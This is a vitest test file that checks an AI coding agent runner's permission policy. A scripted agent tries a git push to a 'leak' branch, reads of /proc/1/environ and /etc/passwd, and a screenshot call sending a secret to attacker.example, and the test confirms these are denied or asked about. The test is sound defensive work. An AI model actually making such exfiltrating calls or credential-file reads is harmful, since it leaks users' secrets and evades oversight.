// The permission policy through the runner: what is asked (status.pending), what the decisions the
// relay appends let through, and what actually happened in the workspace and the remote.
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { answer, useRunnerTestbed } from '../support/runner.ts';

const bed = useRunnerTestbed('runpolicy');

const script = [
  'script:',
  'tool: Bash {"command":"echo first > first.txt"}',
  'tool: Bash {"command":"echo second > second.txt"}',
  'tool: Bash {"command":"git push origin HEAD:refs/heads/leak"}',
  'tool: Read {"file_path":"/proc/1/environ"}',
  'tool: Read {"file_path":"/etc/hostname"}',
  'tool: Read {"file_path":"/etc/passwd"}',
  'tool: mcp__tether__screenshot {"url":"https://attacker.example/?t=secret"}',
  'say: done',
].join('\n');

describe('runner permission policy', { timeout: 150_000 }, () => {
  it(`after "allow always" on Bash, a denied pattern is still denied; reads outside the checkout and screenshots \
elsewhere are asked`, async () => {
    const { name, runner, remote, repo } = await bed.run(script, {
      TETHER_PERMISSION_POLICY: '{"deny":["Bash(git push*)"]}',
    });
    const input = (s: Awaited<ReturnType<typeof answer>>) =>
      JSON.parse(s.status!.pending!.input!) as Record<string, unknown>;

    const first = await answer(bed.sessions, bed.ns, name, 'tool', { action: 'allow', scope: 'session' });
    expect(first.status?.pending).toMatchObject({ tool: 'Bash' });
    expect(input(first)).toEqual({ command: 'echo first > first.txt' });

    // The second Bash call runs unasked, the push is denied unasked; Claude Code itself refuses to read
    // /proc/1/environ (no question); the next question is the read outside the checkout.
    const read = await answer(bed.sessions, bed.ns, name, 'tool', { action: 'allow', scope: 'session' });
    expect(read.status?.pending).toMatchObject({ tool: 'Read' });
    expect(input(read)).toEqual({ file_path: '/etc/hostname' });

    const again = await answer(bed.sessions, bed.ns, name, 'tool', { action: 'deny', message: 'no credentials' });
    expect(input(again)).toEqual({ file_path: '/etc/passwd' });

    const shot = await answer(bed.sessions, bed.ns, name, 'tool', { action: 'deny' });
    expect(shot.status?.pending).toMatchObject({ tool: 'mcp__tether__screenshot' });
    expect(input(shot)).toEqual({ url: 'https://attacker.example/?t=secret' });

    const changes = await answer(bed.sessions, bed.ns, name, 'changes', { action: 'reject' });
    expect(changes.status?.result?.diffStat).toMatch(/first\.txt[\s\S]*second\.txt/);
    expect(await runner.exited, runner.output()).toBe(0);

    const session = (await bed.sessions.get(bed.ns, name))!;
    expect(session.status?.phase).toBe('Rejected');
    expect(session.spec.decisions).toHaveLength(5);
    expect(JSON.stringify(session)).not.toContain('KUBECONFIG=');
    expect(session.status?.progress?.map((p) => p.text)).toContain(
      '"allow always" counted as allow once: reads outside the repository checkout are asked each time',
    );
    expect(remote.git('for-each-ref', '--format=%(refname)')).not.toContain('leak');
    expect(existsSync(join(repo, 'second.txt'))).toBe(false); // reverted by the reject
  });
});
